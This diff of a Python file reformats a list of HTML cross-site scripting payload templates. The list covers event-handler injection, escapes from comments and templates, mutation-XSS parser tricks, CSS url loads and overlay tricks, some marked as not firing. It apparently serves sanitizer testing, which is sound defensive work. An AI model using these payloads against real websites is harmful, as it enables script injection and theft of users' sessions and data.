@@ -57,7 +57,11 @@ FAMILIES = (
     Family("focus, any element", "<x tabindex=1 autofocus onfocus={act}>"),
     Family("image button", "<input type=image src=data:, onerror={act}>"),
     Family("body", "<body onpageshow={act}>"),
-    Family("animation", "<style>@keyframes x{}</style><b style=animation-name:x;animation-duration:1s onanimationstart={act}>b"),
+    Family(
+        "animation",
+        "<style>@keyframes x{}</style>"
+        "<b style=animation-name:x;animation-duration:1s onanimationstart={act}>b",
+    ),
     Family("style", "<style>@import '{url}';</style>"),
     Family("style, picture", "<b style=background:url({url})>b</b>"),
     Family("style, font", "<style>@font-face{font-family:x;src:url({url})}p{font-family:x}</style><p>x"),
@@ -74,7 +78,12 @@ FAMILIES = (
     Family("out of a comment", "--><script>{act}</script><!--"),
     Family("out of a template", "</template><script>{act}</script>"),
     Family("out of noscript", '<noscript><p title="</noscript><img src=data:, onerror={act}>">'),
-    Family("mutation, style", "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=data:, onerror={act}>'>", fires=False),
+    Family(
+        "mutation, style",
+        "<math><mtext><table><mglyph><style><!--</style><img title='-->"
+        "<img src=data:, onerror={act}>'>",
+        fires=False,
+    ),
     Family("mutation, svg", "<svg></p><style><a id='</style><img src=data:, onerror={act}>'>"),
     Family("mutation, select", "<select><template><img src=data:, onerror={act}></template></select>", fires=False),
     Family("shadow", "<div><template shadowrootmode=open><img src=data:, onerror={act}></template></div>"),
@@ -85,7 +94,12 @@ FAMILIES = (
     Family("form", "<form action=javascript:{act}><button>ask</button></form>", fires=False),
     Family("button", "<button formaction=javascript:{act}>ask</button>", fires=False),
     Family("popover", "<button popovertarget=x>a</button><i popover id=x onbeforetoggle={act}>", fires=False),
-    Family("policy", "<meta http-equiv=content-security-policy content=\"default-src *\"><b title='{act}'>", fires=False),
+    Family(
+        "policy",
+        "<meta http-equiv=content-security-policy content=\"default-src *\">"
+        "<b title='{act}'>",
+        fires=False,
+    ),
     Family("cover", "<style>body{display:none}</style><i title='{act}'>", fires=False),
     Family("cover, element", "<div style=position:fixed;inset:0;z-index:9999 title='{act}'>", fires=False),
     Family("entities", "&lt;img src=data:, onerror={act}&gt;", fires=False),
